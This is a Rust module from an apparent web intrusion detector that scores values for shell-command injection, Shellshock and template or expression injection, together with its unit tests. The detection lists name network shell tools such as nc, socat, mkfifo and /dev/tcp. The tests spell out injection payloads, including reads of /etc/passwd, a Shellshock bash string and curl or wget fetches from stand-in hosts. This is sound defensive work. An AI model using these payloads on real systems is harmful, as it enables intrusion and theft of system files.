//! Whether a value carries a command for a shell or code for the server: a separator with a
//! program behind it, a substitution, Shellshock, a template or expression that is evaluated.

use crate::access::sql::CERTAIN;
use crate::signs::scan::{cut, has, rest};

const LIKELY: u32 = 3;

/// Programs that a try runs.
const PROGRAMS: &[&[u8]] = &[
    b"cat",
    b"ls",
    b"id",
    b"whoami",
    b"uname",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"ping",
    b"nslookup",
    b"dig",
    b"powershell",
    b"cmd",
    b"type",
    b"dir",
    b"echo",
    b"sleep",
    b"python",
    b"python3",
    b"perl",
    b"php",
    b"ruby",
    b"chmod",
    b"rm",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"ps",
    b"env",
    b"printenv",
    b"touch",
    b"tftp",
    b"telnet",
    b"certutil",
    b"hostname",
    b"pwd",
    b"kill",
    b"head",
    b"tail",
    b"base64",
    b"busybox",
    b"sudo",
    b"nohup",
    b"printf",
    b"timeout",
    b"net",
    b"systeminfo",
    b"tasklist",
    b"set",
    b"expr",
    b"mkfifo",
    b"socat",
];

/// Programs whose names are words of a language too: alone they say nothing.
const WORDS: &[&[u8]] = &[
    b"type", b"set", b"head", b"tail", b"net", b"echo", b"cat", b"kill", b"touch", b"timeout",
    b"python", b"ruby", b"perl", b"sleep", b"ping", b"dig", b"dir", b"env", b"php", b"bash",
];

/// What only code for a server holds.
const CODE: &[&[u8]] = &[
    b"() {",
    b"(){:;",
    b"/dev/tcp/",
    b"<?php",
    b"<%=",
    b"java.lang.runtime",
    b"getruntime(",
    b"processbuilder",
    b"__class__",
    b"__globals__",
    b"__import__(",
    b"#_memberaccess",
    b"ognl.ognlcontext",
    b"%{(#",
    b"freemarker.template",
    b"system.diagnostics.process",
    b"allow_url_include",
    b"auto_prepend_file",
    b"class.module.classloader",
    b"${ifs}",
    b"base64_decode(",
    b"shell_exec(",
    b"phpinfo()",
    b"system('",
    b"system(\"",
    b"popen(",
    b"eval(base64",
    b"passthru(",
    b"child_process",
];

/// How much a decoded value in small letters looks like a command or code that was put in.
pub(crate) fn score(value: &[u8]) -> u32 {
    if CODE.iter().any(|code| has(value, code)) || has_shell(value) || is_evaluated(value) {
        return CERTAIN;
    }
    let mut most = 0;
    for at in value.iter().enumerate().filter_map(|(at, byte)| {
        matches!(byte, b';' | b'|' | b'&' | b'\n' | b'`' | b'(').then_some(at)
    }) {
        let before = at.checked_sub(1).and_then(|before| value.get(before)).copied();
        let here = value.get(at).copied().unwrap_or(0);
        let is_substitution = here == b'`' || here == b'(' && before == Some(b'$');
        if here == b'(' && !is_substitution {
            continue;
        }
        most = most.max(score_program(rest(value, at + 1), is_substitution));
    }
    most
}

/// What follows a separator.
fn score_program(behind: &[u8], is_substitution: bool) -> u32 {
    let behind = behind.trim_ascii_start();
    let is_part = |byte: &&u8| {
        byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'_' | b'-' | b'\'' | b'\\')
    };
    let n = behind.iter().take_while(is_part).count();
    let path = behind.get(..n).unwrap_or_default();
    // c'a't and c\at are how a shell's user hides a word.
    let path: Vec<u8> =
        path.iter().copied().filter(|byte| !matches!(byte, b'\'' | b'\\')).collect();
    let name = path.rsplit(|byte| *byte == b'/').next().unwrap_or(&path);
    let name = name.strip_suffix(b".exe").unwrap_or(name);
    if !PROGRAMS.contains(&name) {
        return 0;
    }
    let left = rest(behind, n);
    if is_substitution {
        return if has(left, b"`") || has(left, b")") { CERTAIN } else { LIKELY };
    }
    let is_path = path.starts_with(b"/");
    match left.trim_ascii_start().first() {
        _ if is_path => CERTAIN,
        None | Some(b';' | b'|' | b'&' | b')') if WORDS.contains(&name) => LIKELY,
        None | Some(b';' | b'|' | b'&' | b'>' | b'<' | b'#' | b'`' | b')') => CERTAIN,
        Some(b'-' | b'/' | b'$' | b'.' | b'*' | b'~' | b'0'..=b'9') if left.starts_with(b" ") => {
            CERTAIN
        }
        Some(_) if left.starts_with(b" ") && has_file(left) => CERTAIN,
        Some(_) if left.starts_with(b"$") => CERTAIN,
        Some(_) if left.starts_with(b" ") => LIKELY - 1,
        Some(_) => 0,
    }
}

/// Whether an argument is an address, a drive or a file that is written.
fn has_file(left: &[u8]) -> bool {
    let first = left.trim_ascii_start();
    let first = cut(first, b' ').map_or(first, |(first, _)| first);
    let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.');
    let is_host = first.contains(&b'.') && !first.ends_with(b".") && first.iter().all(is_name);
    is_host
        || first.starts_with(b"%")
        || has(first, b"://")
        || has(first, b":\\")
        || has(left, b"> /")
        || has(left, b">/")
}

/// A shell by its full name with something before or behind it.
fn has_shell(value: &[u8]) -> bool {
    [&b"/bin/sh"[..], b"/bin/bash", b"cmd.exe", b"powershell.exe", b"/bin/cat"]
        .iter()
        .any(|shell| has(value, shell))
}

/// Whether a template or an expression is tried with a product: `{{7*7}}`, `${7*7}`, `#{7*7}`.
fn is_evaluated(value: &[u8]) -> bool {
    [&b"{{"[..], b"${", b"#{", b"<%", b"[["].iter().any(|open| {
        memchr::memmem::find(value, open).is_some_and(|at| {
            let inner = rest(value, at + open.len()).trim_ascii_start();
            let inner = inner.strip_prefix(b"=").unwrap_or(inner);
            let is_number = |part: &[u8]| {
                let part = part.trim_ascii();
                !part.is_empty() && part.iter().all(|byte| matches!(byte, b'0'..=b'9' | b'\''))
            };
            cut(inner, b'*').is_some_and(|(left, right)| {
                let end = right.iter().position(|byte| matches!(byte, b'}' | b'%' | b']'));
                is_number(left)
                    && end.is_some_and(|end| is_number(right.get(..end).unwrap_or(right)))
            })
        })
    })
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn commands_and_code_are_found() {
        for value in [
            ";id",
            "x;cat /etc/passwd",
            "127.0.0.1|whoami",
            "a && wget http://x.example/a",
            "$(curl http://x.example)",
            "`id`",
            "| ping -c 3 127.0.0.1",
            ";sleep 5",
            "() { :;}; /bin/bash -c id",
            "{{7*7}}",
            "${7*7}",
            "<?php system('id'); ?>",
            "a;c'a't /etc/hosts",
            "%{(#a=1)}",
            ";cat${ifs}/x",
            "x\nid",
            "| dir c:\\",
            "| nslookup evil.example",
            "; echo x > /tmp/x",
            "system('id')",
        ] {
            assert!(score(value.as_bytes()) >= CERTAIN, "{value}");
        }
    }

    #[test]
    fn prose_is_no_command() {
        for value in [
            "cats; dogs",
            "salt & pepper",
            "a;id=3",
            "head & shoulders",
            "set | type of thing",
            "ping pong (table)",
            "home|garden|kitchen",
            "{{name}}",
            "${name}",
            "r&b; soul; echo and the bunnymen",
            "c++ (set)",
            "jsessionid;path",
            "set; type",
            "cats | cat",
        ] {
            assert!(score(value.as_bytes()) < CERTAIN, "{value}: {}", score(value.as_bytes()));
        }
    }

    proptest! {
        #[test]
        fn nothing_panics(value in "[ -~]{0,60}") {
            let _ = score(value.as_bytes());
        }
    }
}
